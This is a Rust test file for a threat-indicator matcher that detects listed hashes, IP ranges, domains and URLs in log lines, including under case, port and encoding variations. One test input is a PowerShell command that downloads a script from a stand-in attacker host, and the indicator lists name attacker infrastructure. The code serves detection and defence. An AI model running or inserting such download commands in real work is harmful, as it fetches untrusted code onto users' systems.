//! What is found, where, and what is not.

use domain::event::{Event, Kind as Value};

use super::*;

const SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const MD5: &str = "098f6bcd4621d373cade4e832627b4f6";

fn lists() -> Indicators {
    let mut b = Builder::default();
    for (kind, value, list, until) in [
        (Kind::Sha256, SHA256, 0, None),
        (Kind::Md5, MD5, 0, None),
        (Kind::Address, "203.0.113.0/24", 1, None),
        (Kind::Address, "198.51.100.7", 1, Some(20 * DAY)),
        (Kind::Address, "2001:db8:1::/48", 1, None),
        (Kind::Domain, "evil.example", 2, None),
        (Kind::Domain, "evil.example", 3, None),
        (Kind::Url, "https://shop.example/gate.php", 2, None),
    ] {
        assert!(b.add(kind, value, list, until), "{value}");
    }
    b.build()
}

fn hits(fields: &[(&str, &str)], product: &'static str, day: u16) -> Vec<(u32, u16, String)> {
    let mut event = Event::default();
    for (name, value) in fields {
        event.push(name, value, Value::Text);
    }
    event.set_source(product, "");
    event.set_raw(fields.first().map_or("", |(_, value)| value));
    let all = lists();
    let mut spotter = Spotter::default();
    let found = spotter.spot(&all, &event, day, &|list| list != 3);
    found.iter().map(|h| (h.field, h.list, h.indicator.clone())).collect()
}

fn one(value: &str) -> Vec<(u16, String)> {
    hits(&[("x", value)], "windows", 10).into_iter().map(|(_, list, what)| (list, what)).collect()
}

#[test]
fn a_value_is_found_whatever_its_field_is_called_and_however_it_is_written() {
    let domain = || vec![(2, "evil.example".to_owned())];
    for value in [
        "evil.example",
        "a.b.EVIL.example.",
        "evil.example:443",
        "https://evil.example/x",
        "powershell -c \"iwr http://cdn.evil.example:8080/a.ps1 -o b\"",
    ] {
        assert_eq!(one(value), domain(), "{value}");
    }
    let url = || vec![(2, "shop.example/gate.php".to_owned())];
    for value in [
        "http://shop.example/gate.php?id=7#x",
        "HTTP://SHOP.example:80/gate.php",
        "see http://shop.example/gate.php, now",
    ] {
        assert_eq!(one(value), url(), "{value}");
    }
    for value in ["203.0.113.200", "203.0.113.200:51000", "::ffff:203.0.113.1", "http://203.0.113.9/a"] {
        assert_eq!(one(value), [(1, "203.0.113.0/24".to_owned())], "{value}");
    }
    assert_eq!(one("2001:db8:1:2::9"), [(1, "2001:db8:1::/48".to_owned())]);
    assert_eq!(one("[2001:db8:1:2::9]:443"), [(1, "2001:db8:1::/48".to_owned())]);
    assert_eq!(one(&SHA256.to_uppercase()), [(0, SHA256.to_owned())]);
    let sysmon =
        format!("SHA1={},MD5={},SHA256={SHA256},IMPHASH={}", "0".repeat(40), "f".repeat(32), "0".repeat(32));
    assert_eq!(one(&sysmon), [(0, SHA256.to_owned())]);
    assert_eq!(one(&format!("MD5={MD5}")), [(0, MD5.to_owned())]);
}

#[test]
fn what_only_looks_alike_is_not_found() {
    for value in [
        "notevil.example",
        "example",
        "evil.example.vn",
        "shop.example",
        "http://shop.example/gate.php5",
        "http://shop.example/Gate.php",
        "203.0.114.1",
        "2001:db8:2::1",
        "9f86d081884c7d659a2feaa0c55ad015",
        r"C:\evil.example",
        "an@evil.example",
    ] {
        assert_eq!(one(value), [], "{value}");
    }
}

#[test]
fn lists_that_ended_or_are_not_for_this_event_are_passed_over() {
    let on = |day| hits(&[("ip", "198.51.100.7")], "linux", day).len();
    assert_eq!((on(20), on(21)), (1, 0));
    // List 3 holds the name, too, and is not for this event: see `hits`.
    assert_eq!(one("evil.example").len(), 1);
}

#[test]
fn of_a_line_nobody_understood_every_word_is_looked_at() {
    let line = "%%% blocked(203.0.113.77) -> evil.example; hash=098f6bcd4621d373cade4e832627b4f6.";
    assert_eq!(hits(&[("message", line)], "linux", 10), []);
    let mut found: Vec<u16> =
        hits(&[("message", line)], "", 10).into_iter().map(|(_, list, _)| list).collect();
    found.sort_unstable();
    assert_eq!(found, [0, 1, 2]);
}

#[test]
fn none_of_a_hundred_thousand_is_lost_and_none_is_made_up() {
    let name = |n: u32| format!("h{n}.zone{}.example", n % 977);
    let mut b = Builder::with_room(100_000);
    (0..100_000).step_by(2).for_each(|n| assert!(b.add(Kind::Domain, &name(n), 0, None)));
    let all = b.build();
    let (mut event, mut spotter) = (Event::default(), Spotter::default());
    for n in 0..100_000 {
        event.clear();
        event.push("q", &name(n), Value::Text);
        event.set_source("linux", "");
        assert_eq!(spotter.spot(&all, &event, 1, &|_| true).len(), usize::from(n % 2 == 0), "{n}");
    }
}

#[test]
fn whatever_is_found_a_glance_at_the_line_lets_pass() {
    let all = lists();
    let mut key = String::new();
    for line in [
        "Failed password for root from 203.0.113.9 port 22",
        r#"{"query":"cdn.EVIL.example","x":1}"#,
        r#"{"message":"first\nevil.example said"}"#,
        r#"{"url":"http:\/\/shop.example\/gate.php"}"#,
        r#"{"Hashes":"MD5=098F6BCD4621D373CADE4E832627B4F6,IMPHASH=0"}"#,
        "GET http://shop.example/gate.php?id=1 HTTP/1.1",
        "to:evil.example:443, then",
        "src=[2001:db8:1::7]:443",
        "image sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    ] {
        assert!(glance(&all, line, &mut key), "{line}");
    }
    let ordinary = (0..2_000).filter(|n| {
        let line = format!(
            "<38>web{n} sshd[{n}]: Accepted key for u{n} from 10.1.{}.{} at https://a{n}.vn/x",
            n % 250,
            n % 99
        );
        glance(&all, &line, &mut key)
    });
    assert!(ordinary.count() < 200, "most lines are passed over");
}

/// Byte by byte, word by word: what [`glance`] finds out by fewer looks.
fn slow(all: &Indicators, line: &str, key: &mut String) -> bool {
    let bytes = line.as_bytes();
    let word = |byte: &u8| byte.is_ascii_alphanumeric() || b".-_:".contains(byte);
    let mut at = 0;
    while at < bytes.len() {
        if bytes[at] == b'\\' {
            if bytes.get(at + 1) == Some(&b'/') {
                return true;
            }
            at += 2;
        } else if word(&bytes[at]) {
            let from = at;
            at += bytes[at..].iter().position(|b| !word(b)).unwrap_or(bytes.len() - at);
            let own = line.get(from..at).unwrap();
            if own.len() >= 4 && (super::glance::hash(all, own) || super::glance::name(all, own)) {
                return true;
            }
            if own.ends_with(':')
                && line.get(at..at + 2) == Some("//")
                && super::glance::url(all, line.get(at + 2..).unwrap(), key)
            {
                return true;
            }
        } else {
            at += 1;
        }
    }
    false
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config::with_cases(4_000))]
    #[test]
    fn a_glance_sees_what_a_long_look_sees(pieces in proptest::collection::vec((0_usize..24, 0_usize..4), 1..24)) {
        let all = lists();
        let of = [
            "evil.example", "cdn.EVIL.example", "203.0.113.9", "198.51.100.7", "203.0.114.1", "2001:db8:1::7",
            MD5, SHA256, "sha256:", "http://shop.example/gate.php", "https://a.vn/x", "\\", "\\n", "\\\\", "/", " ",
            "\"", ",", ":", ".", "=", "é", "xxxxxxxxxxxxxxxxxxxxx", "a",
        ];
        let line: String = pieces.iter().flat_map(|(n, gap)| [of[*n], ["", " ", "\"", ","][*gap]]).collect();
        let mut key = String::new();
        proptest::prop_assert_eq!(glance(&all, &line, &mut key), slow(&all, &line, &mut key), "{}", line);
    }
}
